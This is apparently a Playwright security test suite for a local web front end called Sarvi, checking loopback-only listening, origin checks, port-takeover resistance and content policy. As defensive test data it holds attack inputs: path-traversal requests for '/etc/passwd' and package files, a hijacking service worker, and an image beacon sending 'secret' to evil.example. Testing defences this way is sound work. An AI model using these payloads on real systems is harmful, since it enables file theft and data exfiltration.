/** Who may use the built web shell, and who may not. */
import { expect, type Page } from '@playwright/test';
import { statSync } from 'node:fs';
import { request, type RequestListener } from 'node:http';
import { join } from 'node:path';
import { ask, keyOfAddress, knock, open } from '../builders/knock.ts';
import { relay, Stranger } from './stranger.ts';
import type { WebShell } from './web-shell.ts';
import { test } from './web-shells.ts';

const portOf = (shell: WebShell): number => Number(new URL(shell.origin).port);
const heading = (page: Page) => page.getByRole('heading', { level: 1 });
const isRefused = async (page: Page): Promise<void> => {
  await expect(heading(page)).toHaveText('This address does not open Sarvi');
};
const isIn = async (page: Page): Promise<void> => {
  await expect(heading(page)).toHaveText('Welcome to Sarvi');
};

/** Sarvi is killed under its open page, and another program takes its port. */
async function takeOver(page: Page, shell: WebShell, answer: RequestListener, relayTo?: number): Promise<Stranger> {
  await page.goto(shell.entryUrl);
  await isIn(page);
  await shell.kill();
  return Stranger.at(portOf(shell), answer, relayTo);
}

test('listens on the loopback address alone', async ({ shell }) => {
  expect(new URL(shell.origin).hostname).toBe('127.0.0.1');
  // Another address of the loopback network reaches what listens on all addresses.
  await expect(
    new Promise((resolve, reject) => {
      request({ host: '127.0.0.2', port: portOf(shell) }, resolve)
        .on('error', reject)
        .end();
    }),
  ).rejects.toThrow(/ECONNREFUSED/);
});

test('lets a browser in by its printed address, without a cookie, also after a reload and in a second tab', async ({
  shell,
  page,
  browser,
}) => {
  await page.goto(shell.entryUrl);
  await isIn(page);
  await expect(page).toHaveURL(`${shell.origin}/`);
  expect(await page.context().cookies()).toEqual([]);
  await page.reload();
  await isIn(page);
  const second = await page.context().newPage();
  await second.goto(shell.origin);
  await isIn(second);
  // The address that was used already, in the browser that is in.
  await second.goto('about:blank');
  await second.goto(shell.entryUrl);
  await isIn(second);

  const other = await browser.newContext({ locale: 'en-GB' });
  const stranger = await other.newPage();
  await stranger.goto(shell.entryUrl);
  await isRefused(stranger);
  await stranger.goto('about:blank');
  await stranger.goto(shell.origin);
  await isRefused(stranger);
  await other.close();
});

test('a second start prints an address of the running one, also when the first address was spent by somebody', async ({
  shell,
  start,
  page,
}) => {
  const thief = await knock(portOf(shell), keyOfAddress(shell.entryUrl));
  expect(typeof thief).toBe('object');
  await page.goto(shell.entryUrl);
  await isRefused(page);
  const second = await start();
  expect(await second.ended).toBe(0);
  expect(second.origin).toBe(shell.origin);
  // In the tab that shows the refusal only the fragment changes.
  await page.evaluate((address) => {
    location.href = address;
  }, second.entryUrl);
  await isIn(page);
  await expect(page).toHaveURL(`${shell.origin}/`);
});

test('serves its files to anyone at its own address, and the bridge to nobody without a proof', async ({ shell }) => {
  const port = portOf(shell);
  expect((await ask(port, '/')).status).toBe(200);
  for (const headers of [
    { host: `sarvi.evil.example:${port}` },
    { host: `localhost:${port}` },
    { origin: 'https://evil.example' },
    { origin: 'null' },
  ] as Record<string, string>[]) {
    expect((await ask(port, '/', headers)).status, JSON.stringify(headers)).toBe(403);
    expect(await knock(port, keyOfAddress(shell.entryUrl), { headers }), JSON.stringify(headers)).toBe(403);
  }
  expect(await open(port, '/bridge')).toBe(403);
  expect(typeof (await knock(port, keyOfAddress(shell.entryUrl)))).toBe('object');
});

test('serves nothing but the renderer', async ({ shell }) => {
  for (const path of [
    '/../main/web.js',
    '/../../package.json',
    '/%2e%2e/%2e%2e/package.json',
    '/..%2f..%2fpackage.json',
    '/assets/../../main/web.js',
    '//etc/passwd',
    '/config.json',
    '/web-shell.json',
  ]) {
    expect((await ask(portOf(shell), path)).status, path).toBe(404);
  }
});

test('keeps the keys in a file for its user alone', async ({ shell, folder }) => {
  expect(typeof (await knock(portOf(shell), keyOfAddress(shell.entryUrl)))).toBe('object');
  test.skip(process.platform === 'win32', 'modes are the system’s');
  expect(statSync(join(folder, 'web-shell.json')).mode & 0o777).toBe(0o600);
});

test('gives nothing to the server at another port that the browser visits', async ({ shell, page }) => {
  await page.goto(shell.entryUrl);
  await isIn(page);
  const stranger = await Stranger.at(0, (_, response) => {
    response.setHeader('set-cookie', [`sarvi-${portOf(shell)}=x`, 'sarvi=x']);
    response.end('<!doctype html>');
  });
  await page.goto(`http://127.0.0.1:${stranger.port}/`);
  expect(stranger.heard[0]?.headers.cookie).toBeUndefined();
  expect(await page.evaluate(() => [localStorage.length, document.referrer])).toEqual([0, '']);
  const opened = await page.evaluate(
    (url) =>
      new Promise((resolve) => {
        const socket = new WebSocket(url);
        socket.onopen = () => resolve(true);
        socket.onerror = () => resolve(false);
      }),
    `ws://127.0.0.1:${portOf(shell)}/bridge`,
  );
  expect(opened).toBe(false);
  // Nor can it lock the owner out.
  await page.goto(shell.origin);
  await isIn(page);
  await stranger.leave();
});

test('an open page finds Sarvi again after a kill, and a stranger at its port meanwhile learns nothing', async ({
  shell: first,
  start,
  page,
}) => {
  const banner = page.getByRole('alert').filter({ hasText: 'Trying to reconnect' });
  const stranger = await takeOver(page, first, (_, response) => {
    response.setHeader('content-type', 'application/json');
    response.end(JSON.stringify({ nonce: 'A'.repeat(43), proof: 'A'.repeat(43) }));
  });
  await expect(banner).toBeVisible();
  await expect.poll(() => stranger.heard.length).toBeGreaterThan(1);
  await stranger.leave();
  for (const { line, headers } of stranger.heard) {
    expect(line).toMatch(/^GET \/challenge\?key=page-[\w-]{43}&nonce=[\w-]{43}$/);
    expect(headers.cookie).toBeUndefined();
  }
  const second = await start();
  expect(portOf(second)).not.toBe(portOf(first));
  await expect(banner).toBeHidden();
  // The same page, that has not been loaded again, at its own port.
  await expect(page).toHaveURL(`${first.origin}/`);
  await page.getByRole('button', { name: 'Continue' }).first().click();
  // And after an orderly end.
  await second.stop();
  await expect(banner).toBeVisible();
  await start();
  await expect(banner).toBeHidden();
});

test('a page does not take a program for Sarvi that hands all on to it from another port', async ({
  shell: first,
  start,
  page,
}) => {
  const chosen = portOf(first) === 20_001 ? 20_002 : 20_001;
  const stranger = await takeOver(page, first, relay(chosen), chosen);
  await start(['--port', String(chosen)]);
  await expect.poll(() => stranger.heard.length).toBeGreaterThan(2);
  await expect(page.getByRole('alert')).toBeVisible();
  // Sarvi knows no page of that port here; the stranger never gets as far as a socket.
  expect(stranger.heard.filter(({ line }) => line.includes('/bridge'))).toEqual([]);
  await stranger.leave();
});

test('a service worker that a stranger left at a former port neither reaches the open page nor the new address', async ({
  shell: first,
  start,
  page,
}) => {
  const stranger = await takeOver(page, first, ({ url }, response) => {
    const isScript = url === '/worker.js';
    response.setHeader('content-type', isScript ? 'text/javascript' : 'text/html');
    response.end(
      isScript
        ? `addEventListener('install', () => skipWaiting());
           addEventListener('activate', (event) => event.waitUntil(clients.claim()));
           addEventListener('fetch', (event) => event.respondWith(new Response('<h1>stranger</h1>', { headers: { 'content-type': 'text/html' } })));`
        : '<!doctype html><p>stranger</p>',
    );
  });
  const bait = await page.context().newPage();
  await bait.goto(first.origin);
  await bait.evaluate(async () => {
    await navigator.serviceWorker.register('/worker.js');
    await navigator.serviceWorker.ready;
  });
  await expect.poll(() => page.evaluate(() => navigator.serviceWorker.controller !== null)).toBe(true);
  await stranger.leave();
  const second = await start();
  await expect(page.getByRole('alert')).toBeVisible();
  await bait.goto(second.entryUrl);
  await isIn(bait);
  expect(await bait.evaluate(() => navigator.serviceWorker.controller)).toBeNull();
});

test('keeps a page of another site from using the bridge or framing the app', async ({ shell, page, context }) => {
  await page.goto(shell.entryUrl);
  await context.route('https://evil.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${shell.origin}/"></iframe>` }),
  );
  const evil = await context.newPage();
  await evil.goto('https://evil.example/');
  const opened = await evil.evaluate(
    (url) =>
      new Promise((resolve) => {
        const socket = new WebSocket(url);
        socket.onopen = () => resolve(true);
        socket.onerror = () => resolve(false);
      }).catch(() => false),
    `${shell.origin.replace('http', 'ws')}/bridge`,
  );
  expect(opened).toBe(false);
  const frame = evil.frames()[1];
  expect(frame?.url()).toBe('chrome-error://chromewebdata/');
});

test('obeys its policy: no remote picture, no inline script', async ({ shell, page }) => {
  await page.goto(shell.entryUrl);
  const requested: string[] = [];
  await page.route('https://evil.example/**', (route) => {
    requested.push(route.request().url());
    return route.abort();
  });
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'globalThis.ran = true';
    document.body.append(script);
    const image = new Image();
    image.src = 'https://evil.example/?text=secret';
    await new Promise((resolve) => (image.onerror = resolve));
    return 'ran' in globalThis;
  });
  expect([ran, requested]).toEqual([false, []]);
});
